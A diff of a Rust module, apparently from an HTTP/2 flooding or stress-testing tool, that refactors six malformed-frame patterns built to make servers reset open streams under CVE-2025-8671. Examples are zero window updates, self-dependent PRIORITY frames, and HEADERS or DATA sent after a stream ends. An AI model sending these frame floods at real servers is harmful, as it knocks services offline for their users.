@@ -1,8 +1,8 @@
 //! Frames that make the server reset an open call: the six ways of CVE-2025-8671.
 
-use super::batch::{Batch, ITSELF, headers, message, open_call};
+use super::batch::{Batch, ITSELF, message, open_call};
 use super::flood::{Flood, of_frames};
-use crate::http2::frame::{WINDOW_BYTES_MAX, flag, frame, kind, window_update};
+use hashlane_http2_frames::{WINDOW_BYTES_MAX, flag, frame, kind, priority, window_update};
 
 pub(super) static RESETS: [Flood; 6] = [
     of_frames("reset-zero", "calls whose window is opened by 0", || {
@@ -22,18 +22,12 @@ pub(super) static RESETS: [Flood; 6] = [
     of_frames(
         "reset-itself",
         "calls with a PRIORITY that depends on itself",
-        || {
-            let payload = [&ITSELF.to_be_bytes()[..], &[0]].concat();
-            Batch::of_calls(&[open_call(), frame(kind::PRIORITY, 0, 0, &payload)])
-        },
+        || Batch::of_calls(&[open_call(), priority(0, ITSELF, 0)]),
     ),
     of_frames(
         "reset-headers",
         "calls with HEADERS after their end",
-        || {
-            let again = frame(kind::HEADERS, flag::END_HEADERS, 0, &headers());
-            Batch::of_calls(&[open_call(), last_data(), again])
-        },
+        || Batch::of_calls(&[open_call(), last_data(), open_call()]),
     ),
     of_frames("reset-data", "calls with DATA after their end", || {
         Batch::of_calls(&[open_call(), last_data(), frame(kind::DATA, 0, 0, b"more")])
